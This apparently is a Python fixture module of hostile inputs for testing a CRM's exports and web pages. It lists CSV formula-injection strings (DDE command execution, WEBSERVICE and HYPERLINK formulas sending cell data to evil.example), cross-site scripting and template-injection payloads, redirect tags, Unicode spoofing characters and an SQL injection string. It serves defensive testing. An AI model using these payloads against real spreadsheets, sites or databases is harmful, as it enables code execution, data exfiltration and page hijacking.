"""Texts that somebody may put into a CRM's field to harm whoever opens our files and pages. One list for both."""

from __future__ import annotations

#: What a spreadsheet would compute, fetch or run.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200d=1+1",
    "\u200e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|calc",
    "%0A=1+1",
    '"=1+1',
    "'=1+1",
    "-1",
    "+49 30 1234",
)

#: What a browser would run or load.
SCRIPTS = (
    "<script>document.title='owned'</script>",
    "</td></tr></table><script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "' onmouseover='document.title=\"owned\"",
    "<svg onload=document.title='owned'>",
    "javascript:document.title='owned'",
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\">",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<!--", "]]>", "&lt;script&gt;", "</title><script>document.title='owned'</script>",
    "<style>body{display:none}</style>",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
)  # fmt: skip

#: What hides, turns or breaks the text around it.
SIGNS = (
    "invoice\u202egnp.exe",
    "\u2066hidden\u2069\u2067turned",
    "pay\u200b\u2060\ufeffment",
    "a\x01b\x07c\x1b[31md\x7fe\x85f",
    "line\u2028break\u2029here",
    "tab\tand\r\nlines",
    "_x0041_ _x000D_",
    "👩‍👩‍👧‍👦 🏴‍☠️ ﷽ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "शक्‍ति مؤسسة אבג 東京",
    "x" * 40_000,
    "'; drop table tieout.break; --",
    "%s%n{0}\\",
)

#: As a database keeps them: PostgreSQL takes everything but the zero byte, which staging has replaced by then.
ALL = (*FORMULAS, *SCRIPTS, *SIGNS)
